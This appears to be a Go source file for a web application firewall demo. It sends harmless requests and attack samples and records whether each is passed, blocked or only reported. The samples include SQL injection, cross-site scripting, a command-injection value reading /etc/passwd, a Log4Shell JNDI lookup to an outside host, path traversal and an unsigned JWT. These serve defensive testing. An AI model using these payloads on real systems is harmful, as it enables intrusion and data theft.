package main

import (
	"net/http"
	"strconv"
	"strings"

	"tabard/engine"
)

// step is one exchange of the demo and what should become of it.
type step struct {
	name   string
	method string
	path   string
	header [][2]string
	body   string

	verdict engine.Action
	status  int
}

var (
	form = [2]string{"Content-Type", "application/x-www-form-urlencoded"}
	json = [2]string{"Content-Type", "application/json"}
)

// host is the name that the requests are for; CRS minds an address in its place.
const host = "shop.example"

// steps are what the demo plays, harmless requests first.
var steps = []step{
	{name: "a search", path: "/anything?q=red+shoes", verdict: engine.Pass, status: 200},
	{name: "a login", path: "/anything/login", header: [][2]string{form}, body: "user=ann&password=correct+horse", verdict: engine.Pass, status: 200},
	{name: "an order in JSON", path: "/anything/orders/7", header: [][2]string{json}, body: `{"article":42,"note":"It's for O'Brien"}`, verdict: engine.Pass, status: 200},
	{name: "a page of text", path: "/html", verdict: engine.Pass, status: 200},
	{name: "a well-formed JWT", path: "/anything", header: [][2]string{{"Authorization", "Bearer " + goodToken}}, verdict: engine.Pass, status: 200},

	{name: "SQL injection in the query", path: "/anything?id=1%27%20OR%20%271%27%3D%271", verdict: engine.Block, status: 403},
	{name: "cross-site scripting in a form", path: "/anything", header: [][2]string{form}, body: "note=<script>alert(1)</script>", verdict: engine.Block, status: 403},
	{name: "a shell command in JSON", path: "/anything", header: [][2]string{json}, body: `{"host":"localhost; cat /etc/passwd"}`, verdict: engine.Block, status: 403},
	{name: "Log4Shell in a header", path: "/anything", header: [][2]string{{"X-Api-Version", "${jndi:ldap://x.example/a}"}}, verdict: engine.Block, status: 403},
	{name: "a file of the system in the query", path: "/anything?file=../../../../etc/passwd", verdict: engine.Block, status: 403},
	{name: "a JWT that says alg: none", path: "/anything", header: [][2]string{{"Authorization", "Bearer " + noneToken}}, verdict: engine.Block, status: 401},
	{name: "XML where only JSON is allowed", path: "/anything/orders/7", header: [][2]string{{"Content-Type", "text/xml"}}, body: "<order/>", verdict: engine.Block, status: 415},
	{name: "a client from a blocked network", path: "/anything", header: [][2]string{{"X-Forwarded-For", "203.0.113.9"}}, verdict: engine.Block, status: 403},
	{name: "a body over the limit", path: "/anything", header: [][2]string{form}, body: "a=" + strings.Repeat("x", 200_000), verdict: engine.Block, status: 413},
	{name: "an answer that leaks a database error", path: "/leak", verdict: engine.Block, status: 403},
	{name: "an attack on a route that only reports", path: "/anything/legacy?id=1%27%20OR%20%271%27%3D%271", verdict: engine.Detect, status: 200},
}

// Two tokens for {"sub":"ann"}: signed with HS256, and not signed at all.
const (
	goodToken = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbm4ifQ.1K8F3gxnWqLvC3hJyxjFMx3TnGbs3lqk8i0sT0hHZ9M"
	noneToken = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbm4ifQ."
)

// verb is the method, which follows from the body where it is not named.
func (s step) verb() string {
	switch {
	case s.method != "":
		return s.method
	case s.body != "":
		return http.MethodPost
	}
	return http.MethodGet
}

// expected says in words what should happen.
func (s step) expected() string { return string(s.verdict) + " with status " + strconv.Itoa(s.status) }

// maxCurlBytes is the longest body that is worth copying into a terminal.
const maxCurlBytes = 200

// curl is the command that sends the step.
func (s step) curl(addr string) string {
	words := []string{"curl", "-i", "-H", quote("Host: " + host)}
	for _, line := range s.header {
		words = append(words, "-H", quote(line[0]+": "+line[1]))
	}
	switch {
	case len(s.body) > maxCurlBytes:
		return "head -c " + strconv.Itoa(len(s.body)) + " /dev/zero | tr '\\0' x | " + strings.Join(append(words, "--data-binary", "@-", quote("http://"+addr+s.path)), " ")
	case s.body != "":
		words = append(words, "--data-binary", quote(s.body))
	}
	return strings.Join(append(words, quote("http://"+addr+s.path)), " ")
}

// quote writes a word for a shell.
func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
